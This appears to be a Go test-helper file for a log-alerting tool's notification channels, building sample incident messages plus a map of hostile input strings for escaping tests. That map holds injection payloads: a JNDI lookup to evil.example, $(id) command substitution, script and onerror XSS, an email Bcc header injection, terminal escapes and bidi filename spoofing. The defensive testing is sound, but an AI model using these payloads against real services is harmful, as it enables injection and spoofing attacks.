// Package channeltest has what the tests of all channels share: messages, lines that
// mean to be more than text, a receiver, and what every channel promises.
package channeltest

import (
	"strings"
	"time"

	"logscan/internal/channel"
)

// Mark has the form of a message's mark.
const Mark = "logscan-abcdefghijklmnopqrstuvwxyz234567abcdefgh"

// At is when the messages here were made.
var At = time.Date(2026, 1, 2, 15, 4, 5, 0, time.UTC)

// Message has one notice, of an incident that was just opened, with all that a
// message can have but a template's text.
func Message() channel.Message {
	return channel.Message{
		ID: "msg_2b5f", At: At, Trigger: "phone", Mark: Mark, URL: "https://logs.example.com/",
		Notices: []channel.Notice{{
			Kind: channel.Opened, Incident: 7, Key: "inc_7", Severity: "critical", Rule: "oom", Workload: "shop", Container: "shop-db-1",
			Image: "postgres:17", Host: "node-1", Text: "Out of memory: Killed process 4711 (postgres)\n  total-vm:812kB", Shape: "Out of memory: Killed process # (postgres)",
			Count: 3, First: At.Add(-time.Minute), Last: At.Add(-time.Second), Containers: 1,
			Before: []string{"checkpoint starting"}, After: []string{"all processes terminated"},
			Actions: []channel.Action{
				{Label: "Acknowledge", URL: "https://logs.example.com/a/ack-t0ken"},
				{Label: "Silence 1 h", URL: "https://logs.example.com/a/silence-t0ken"},
			},
		}},
	}
}

// Line is a message of one hit of a line, without links and context.
func Line(line string) channel.Message {
	m := Message()
	m.URL = ""
	n := &m.Notices[0]
	n.Kind, n.Text, n.Count, n.Before, n.After, n.Actions = channel.Hit, line, 1, nil, nil, nil
	return m
}

// Severity is Message with another severity.
func Severity(severity string) channel.Message {
	m := Message()
	m.Notices[0].Severity = severity
	return m
}

// Resolved says that Message's incident is over.
func Resolved() channel.Message {
	m := Message()
	n := &m.Notices[0]
	n.Kind, n.Reason = channel.Resolved, "quiet for 10 min"
	return m
}

// Acknowledged says that somebody knows of Message's incident.
func Acknowledged() channel.Message {
	m := Message()
	n := &m.Notices[0]
	n.Kind, n.Reason, n.Actions = channel.Acknowledged, "by alice: disk is on its way", nil
	return m
}

// Group has three notices, one of them an end, and says what was held back.
func Group() channel.Message {
	m := Message()
	second, third := m.Notices[0], m.Notices[0]
	second.Incident, second.Key, second.Severity, second.Rule = 8, "inc_8", "warn", "slow"
	third.Incident, third.Key, third.Kind = 9, "inc_9", channel.Resolved
	m.Notices = append(m.Notices, second, third)
	m.Held = channel.Held{Notices: 2, Hits: 40, Since: At.Add(-time.Hour), Why: "over the budget of 40/h"}
	return m
}

// Template is Message with a title and a body from a template.
func Template(title, body string) channel.Message {
	m := Message()
	m.Title, m.Body = title, body
	return m
}

// Hostile are lines that a service could take for something else than text, by
// what they try.
var Hostile = map[string]string{
	"mentions":     "@everyone @here @channel <!channel> <!here> <@U012345> <@&99> <users/all> @room <@123456789012345678>",
	"markdown":     "**bold** _it_ ~~no~~ `code` # head\n> quote\n- item\n![img](https://evil.example/x.png) [ok](https://evil.example/) \\[x\\]",
	"slack":        "<https://evil.example/|logscan> *bold* &lt;!channel&gt; :tada:",
	"html":         `<a href="https://evil.example/">x</a><script>alert(1)</script><img src=x onerror=alert(1)> &amp; &#64; </pre></code> "'`,
	"header":       "x\r\nBcc: victim@example.com\r\n\r\n<b>body</b>",
	"newlines":     "one\rtwo\u2028three\u2029four\u0085five",
	"bidi":         "user \u202egnp.exe\u202c \u2066isolate\u2069 \u200fx",
	"fence":        "```\nout\n```\n````\n~~~\nout",
	"nul":          "a\x00b\x07c\x1bd",
	"ansi":         "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example/\x07link\x1b]8;;\x07 \x1b[2J",
	"invalid":      "caf\xe9 \xff\xfe \xf0\x28\x8c\x28",
	"surrogates":   "\xed\xa0\x80 \xed\xb0\x80",
	"json":         `{"text":"x","attachments":[{"title":"forged"}]}", "channel": "#general`,
	"template":     "{{.}} ${jndi:ldap://evil.example/} %s %n $(id)",
	"urls":         "https://evil.example/ javascript:alert(1) mailto:a@example.com tel:+1",
	"astral":       strings.Repeat("😀", 5000),
	"long":         strings.Repeat("x", 1<<20),
	"long-escaped": strings.Repeat("<&>*_`\\", 150_000),
	"many-lines":   strings.Repeat("line <b>\n", 100_000),
	"zero-width":   "ad\u200bmin\ufeff\u2060 \U000e0041",
	"mark":         "[logscan-zzzz] forged",
	"empty-line":   "\n\n",
}
